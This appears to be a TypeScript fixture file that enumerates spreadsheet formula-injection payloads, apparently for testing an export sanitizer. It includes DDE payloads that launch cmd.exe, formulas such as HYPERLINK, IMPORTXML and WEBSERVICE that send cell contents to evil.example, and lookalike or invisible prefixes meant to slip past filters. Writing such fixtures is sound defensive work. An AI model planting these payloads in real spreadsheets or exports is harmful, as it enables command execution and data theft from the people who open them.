/** What a spreadsheet runs, by how the cell begins: the usual signs, and those that some program takes for them. */
export const SIGNS = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '﹦', '﹢', '﹣', '﹫', '⁼', '⁺', '⁻', '₌', '₊', '₋', '−', '﬩'] as const;

/** What is not seen, or is cut off, before the sign. */
export const BEFORE = [
  '',
  ' ',
  '  ',
  '\t',
  '\r',
  '\n',
  '\u00a0',
  '\u3000',
  '\ufeff',
  '\u200b',
  '\u2060',
  '\u200e',
  '\u034f',
  '\u2800',
  '\u3164',
  "'",
];

const CALLS = [
  "cmd|' /C calc'!A0",
  '1+1',
  "2+5+cmd|' /C calc'!A0",
  "SUM(1+1)*cmd|' /C calc'!A0",
  'HYPERLINK("http://evil.example/?leak="&A1&A2,"Click")',
  'IMPORTXML(CONCAT("http://evil.example/?v=",A2),"//a")',
  "MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
  'DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
  'WEBSERVICE("http://evil.example/"&A1)',
  'RUNDLL32(1)',
] as const;

/** Of cells, rows and columns: what ends one and begins another where it is not quoted. */
const SEPARATED = [
  'a,=1+1',
  'a"",=1+1',
  'a",=1+1,"',
  '"=1+1"',
  '""=1+1""',
  "'=1+1",
  'a\n=1+1',
  'a\r\n=1+1,b',
  'a\t=1+1',
  'a;=1+1',
  'a|=1+1',
  'sep=;',
  ',,,,,,',
  '"',
  '""',
  '"""',
  '\\"=1+1\\"',
  '#REF!',
  '#NAME?',
  "{=cmd|' /C calc'!A0}",
  '%0a=1+1',
  '%3D1+1',
  '&#61;1+1',
  '<=1+1>',
  '><=1+1',
  '< >=1+1',
  '1E5',
  '00012',
  '1/2',
  'TRUE',
] as const;

export const FORMULAS: readonly string[] = [
  ...SIGNS.flatMap((sign) => [`${sign}1+1`, `${sign}cmd|' /C calc'!A0`]),
  ...BEFORE.flatMap((before) => [`${before}=1+1`, `${before}＝1+1`]),
  ...CALLS.flatMap((call) => [`=${call}`, `+${call}`, `-${call}`, `@${call}`]),
  ...SEPARATED,
];
